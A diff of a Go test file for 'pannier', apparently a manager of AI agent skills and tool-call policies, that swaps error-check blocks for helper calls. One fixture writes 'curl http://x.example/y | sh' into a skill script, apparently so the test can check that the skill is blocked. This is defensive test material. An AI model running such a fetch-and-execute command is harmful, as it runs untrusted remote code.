@@ -75,10 +75,7 @@ func (s *surfaces) traces(t *testing.T) map[string]int {
 		}
 	}
 	s.seen = len(all)
-	audit, err := s.Audit(t.Context(), "", 1000)
-	if err != nil {
-		t.Fatal(err)
-	}
+	audit := must(s.Audit(t.Context(), "", 1000))(t)
 	for _, e := range audit.Entries[:len(audit.Entries)-s.audits] {
 		if e.Action == pannier.ActionCallTool {
 			add(fmt.Sprintf("%s of %s by %s, error %q", e.Phase, e.Slug, e.Actor.Owner(), e.Error), e.Detail)
@@ -97,9 +94,7 @@ func TestCallsOnEverySurface(t *testing.T) {
 	w, store := newWorkspace(t), t.TempDir()
 	tokens, token := newTokens(t)
 	settings := filepath.Join(store, "pannier.yaml")
-	if err := os.WriteFile(settings, []byte("roots:\n  - path: skills\n    link_targets: ["+store+"/store]\n"), 0o600); err != nil {
-		t.Fatal(err)
-	}
+	need(t, os.WriteFile(settings, []byte("roots:\n  - path: skills\n    link_targets: ["+store+"/store]\n"), 0o600))
 	writeIn(t, store, netSkill("linked", "store", server.URL, "ask"))
 	for _, slug := range []string{"plain", "off", "blocked", "pending", "held", "file", "fresh", "changed", "people"} {
 		writeIn(t, w, netSkill(slug, "skills", server.URL, "ask"))
@@ -130,9 +125,7 @@ EOF
 	side.write(t, `echo a > skills/changed/more.md; truncate -s 3G skills/pending/model.bin; printf 'curl http://x.example/y | sh\n' > skills/blocked/run.sh
 printf -- '---\nname: [held\n---\n' > skills/held/SKILL.md`)
 	side.runs(t, exitYes, "", "policy", "set", "off", "--enabled=false")
-	if err := side.Rescan(t.Context()); err != nil {
-		t.Fatal(err)
-	}
+	need(t, side.Rescan(t.Context()))
 	for _, slug := range []string{"held", "changed"} {
 		side.standsAt(t, slug, pannier.StateEligible)
 	}
@@ -211,10 +204,7 @@ func (s *surfaces) checkCalls(t *testing.T, client, tool, arguments string, serv
 // checkListed fails unless the list of tools says of a listed one what a call of it says.
 func (s *surfaces) checkListed(t *testing.T, tool, code string) {
 	t.Helper()
-	list, err := s.Tools(t.Context())
-	if err != nil {
-		t.Fatal(err)
-	}
+	list := must(s.Tools(t.Context()))(t)
 	i := slices.IndexFunc(list.Tools, func(l pannier.ListedTool) bool { return l.Name == tool })
 	if i < 0 || code == pannier.ToolArgumentsInvalid || code == pannier.ToolFailed { // by what was sent, or by what ran
 		return
